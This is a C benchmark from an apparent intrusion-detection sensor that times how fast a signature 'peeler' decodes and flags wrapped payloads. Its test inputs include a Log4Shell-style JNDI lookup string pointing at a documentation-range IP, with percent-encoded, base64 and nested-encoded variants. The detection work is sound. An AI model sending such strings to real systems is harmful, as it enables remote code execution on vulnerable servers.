/* peel_bench: what the peeler and its cheap check cost, on plain wrappings and on the worst that is
 * known.
 *
 * Prints for each text its length, the class, the time per text, the fuel used, and the speed of
 * peel_may_hide() on it. The last line is the longest time of all: with the default fuel it is what
 * a field can cost. With an argument only the text of that name is measured, for a profiler. */
#include "sensor/base/sbuf.h"
#include "signatures/peel.h"
#include "tests/bench/worst_texts.h"

#include <inttypes.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <time.h>

enum { TEXT_CAP = 64 * 1024, MIN_US = 100000 };

static struct peeler *peeler;
static double longest_us;
static const char *only; /* the name of the text to measure; NULL for all */

/* Of this process: other load on the machine does not count. */
static uint64_t cpu_us(void)
{
    return (uint64_t)clock() * 1000000 / CLOCKS_PER_SEC;
}

static double may_hide_speed(struct span text)
{
    volatile bool hides = false;
    uint64_t n = 0;
    uint64_t start = cpu_us();
    uint64_t took = 0;
    for (uint64_t batch = 1; took < MIN_US; batch *= 2) {
        for (uint64_t i = 0; i < batch; i++) {
            hides = peel_may_hide(text) || hides;
        }
        n += batch;
        took = cpu_us() - start;
    }
    return (double)took * 1000 / (double)n;
}

static void measure(const char *name, struct span text)
{
    if (only != NULL && strcmp(only, name) != 0) {
        return;
    }
    uint64_t fuel = 0;
    struct peel_hints hints = {.fuel = &fuel};
    struct peel_result result = {0};
    uint64_t n = 0;
    uint64_t start = cpu_us();
    uint64_t took = 0;
    for (uint64_t batch = 1; took < MIN_US; batch *= 2) {
        for (uint64_t i = 0; i < batch; i++) {
            fuel = PEEL_FUEL;
            (void)peel_and_evaluate(peeler, text, &hints, &result);
        }
        n += batch;
        took = cpu_us() - start;
    }
    double us = (double)took / (double)n;
    longest_us = us > longest_us ? us : longest_us;
    printf("%-26s %6zu bytes  %-11s %s %9.2f us %8" PRIu64 " units; check %9.0f ns\n", name,
           text.len, lookup_class_name(result.lookup.class),
           result.lookup.over_budget ? "over" : "    ", us, PEEL_FUEL - fuel, may_hide_speed(text));
}

int main(int argc, char **argv)
{
    only = argc > 1 ? argv[1] : NULL;
    peeler = peeler_new();
    if (peeler == NULL) {
        return EXIT_FAILURE;
    }
    measure("plain", SPAN("${jndi:ldap://203.0.113.9/a}"));
    measure("percent", SPAN("%24%7Bjndi%3Aldap%3A%2F%2F203.0.113.9%2Fa%7D"));
    measure("base64", SPAN("JHtqbmRpOmxkYXA6Ly8yMDMuMC4xMTMuOS9hfQ=="));
    measure("percent of base64 of json",
            SPAN("XHUwMDI0e2puZGk6bGRhcDovLzIwMy4wLjExMy45L2F9%3D%3D"));
    measure("harmless query", SPAN("/a?b=%7B%22c%22%3A%24%7Bd%7D%7D&e=f+g&h=%E2%82%AC"));
    measure("harmless user agent", SPAN("Mozilla/5.0 (X11; Linux x86_64) AppleWebKit/537.36"));
    for (size_t i = 0; i < worst_texts_n; i++) {
        struct sbuf text = sbuf_with_cap(TEXT_CAP);
        worst_text_fill(&worst_texts[i], TEXT_CAP, &text);
        measure(worst_texts[i].name, sbuf_span(&text));
        sbuf_free(&text);
    }
    printf("longest: %.0f us\n", longest_us);
    peeler_free(&peeler);
    return EXIT_SUCCESS;
}
